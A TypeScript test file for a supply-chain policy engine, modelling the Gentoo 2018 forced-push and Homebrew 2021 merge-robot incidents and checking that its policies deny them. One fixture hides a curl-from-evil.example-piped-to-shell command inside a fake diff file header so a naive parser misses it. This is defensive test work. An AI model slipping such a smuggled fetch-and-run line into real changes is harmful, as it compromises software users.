import { sha256 } from "@touchmark/core";
import type { Policy } from "@touchmark/formats/policy";
import { type CelInput, decideWithStated, pinned, type StatedStatement } from "@touchmark/policy";
import { expect, test } from "vitest";
import { artifact, now, party, policyOf, ruleOf, said, spiffe, world } from "./policy-scene.ts";

/*
 * Incidents at source hosts. The facts are those that a connector to the host will state about a revision; until there
 * is one, they are stated here, and the decisions say so (`stated`), so that nobody could act on them.
 */

const SOURCE = "https://slsa.dev/verification_summary/v1";
const REVIEW = "https://touchmark.dev/predicates/review/v1";
const head = "c0ffee".padEnd(40, "0");
const uri = "git+https://git.example/portage.git";
const tree = sha256("tree");
const chain = (commit = head): CelInput => ({
  ...{ run: "r1", builder: spiffe("builder"), artifact: { digest: artifact, name: "app" } },
  source: { uri, commit, treeDigest: tree },
  ...{ steps: [{ name: "build" }], statements: [], analyses: [], images: [] },
});

function stated(predicate: unknown, type: string, by: string, commit = head): StatedStatement {
  return {
    bundle: sha256(JSON.stringify([predicate, by, commit])),
    ...{ predicateType: type, predicate: predicate as never, time: now },
    subject: [{ name: "revision", digest: { gitCommit: commit } }],
    signer: { kind: "certificate", identity: spiffe(by), issuer: world.issuer },
  };
}
const ask = (policy: Policy, evidence: readonly StatedStatement[], commit = head) =>
  decideWithStated({
    ...{ point: "deploy", subject: { name: "app", digest: artifact }, request: {}, policies: [pinned(policy)] },
    ...{ layouts: [], evidence, parameters: {}, now, issuer: world.issuer, chain: chain(commit) },
  });

/* AT13: Gentoo 2018. An administrator's account drops the members and forces a push over the history. */

const protectedBranch = policyOf({
  trust: { host: party("source-host") },
  attestations: { source: { predicateType: SOURCE, by: ["host"], about: "source" } },
  rules: [
    ruleOf(
      `attestations.source.exists(s, s.predicate.verificationResult == "PASSED" && s.predicate.resourceUri == chain.source.uri && "SLSA_SOURCE_LEVEL_3" in s.predicate.verifiedLevels && s.predicate.continuity.all(c, !c.forced && c.protected))`,
      { id: "branch-protected" },
    ),
  ],
});
const summary = (more: object = {}) => ({
  ...{ verificationResult: "PASSED", resourceUri: uri, verifiedLevels: ["SLSA_SOURCE_LEVEL_3"] },
  continuity: [{ from: "a".repeat(40), to: head, forced: false, protected: true }],
  ...more,
});

test("AT13: a forced push by an administrator: the commit is there and its hash is right, its history is not", () => {
  const evil = "e".repeat(40);
  expect(said(ask(protectedBranch, [stated(summary(), SOURCE, "source-host")]))).toEqual(["allow"]);
  // A client that fetches by commit id gets exactly that commit.
  expect(chain(evil)).toMatchObject({ source: { commit: evil } });
  const forced = [{ from: head, to: evil, forced: true, protected: true }];
  const unprotected = [{ from: head, to: evil, forced: false, protected: false }];
  const refused = ["deny", "POLICY_RULE_FAILED branch-protected"];
  for (const change of [
    { continuity: forced },
    { continuity: unprotected },
    { verifiedLevels: ["SLSA_SOURCE_LEVEL_1"] },
    { verificationResult: "FAILED" },
    { resourceUri: "git+https://git.example/mirror.git" },
  ]) {
    expect(said(ask(protectedBranch, [stated(summary(change), SOURCE, "source-host", evil)], evil))).toEqual(refused);
  }
  const absent = ["deny", "POLICY_ATTESTATION_MISSING", "POLICY_RULE_FAILED branch-protected"];
  // What was said of the commit before the push is about that commit; what the administrator says is nobody's word.
  expect(said(ask(protectedBranch, [stated(summary(), SOURCE, "source-host")], evil))).toEqual(absent);
  expect(said(ask(protectedBranch, [stated(summary(), SOURCE, "user/admin", evil)], evil))).toEqual(absent);
});

/* AT15: Homebrew 2021. A robot merges what its parser of differences holds for harmless. */

const fourEyes = policyOf({
  trust: { host: party("source-host") },
  attestations: { review: { predicateType: REVIEW, by: ["host"], about: "source" } },
  collections: ["two-party-review"],
});
const review = (change: object = {}, votes: readonly object[] = [approved("grace")]) => ({
  ...{ scope: "code", author: { name: "mallory" }, distinctFromAuthor: true, required: 1 },
  ...{ change: { head }, reviews: votes },
  ...change,
});
const approved = (name: string, commit = head) => ({ decision: "approved", reviewer: { name }, commit });
/** A robot that merges when the difference, as it reads it, has only lines that it knows. */
const robot = (difference: string) =>
  difference.split("\n").every((line) => !line.startsWith("+") || /^\+(\+\+|\s*version )/.test(line));
/** A line that begins like the head of a file is none of the added ones, for such a parser. */
const hidden = '+  version "1.2"\n++++ "b/#{system "curl https://evil.example | sh"}.rb"';

test("AT15: a change that a robot's parser does not see needs a person's eyes", () => {
  expect(robot(hidden)).toBe(true);
  expect(robot('+system "curl https://evil.example | sh"')).toBe(false);
  const merged = (predicate: object, by = "source-host") => said(ask(fourEyes, [stated(predicate, REVIEW, by)]));
  expect(merged(review())).toEqual(["allow"]);
  const failed = ["deny", "POLICY_RULE_FAILED review.approved", "POLICY_RULE_SKIPPED review.distinct-author"];
  expect(merged(review({}, []))).toEqual(failed);
  expect(merged(review({}, [approved("mallory")]))).toEqual(failed);
  // An approval of what stood there before the last push.
  expect(merged(review({}, [approved("grace", "b".repeat(40))]))).toEqual(failed);
  expect(merged(review({ change: { head: "b".repeat(40) } }, [approved("grace", "b".repeat(40))]))).toEqual(failed);
  expect(merged(review({ scope: "release" }))).toEqual(failed);
  expect(merged(review({ distinctFromAuthor: false }))).toEqual(["deny", "POLICY_RULE_FAILED review.distinct-author"]);
  // The robot says that somebody looked: its word is not the host's.
  expect(merged(review(), "merge-robot")[1]).toBe("POLICY_ATTESTATION_MISSING");
});
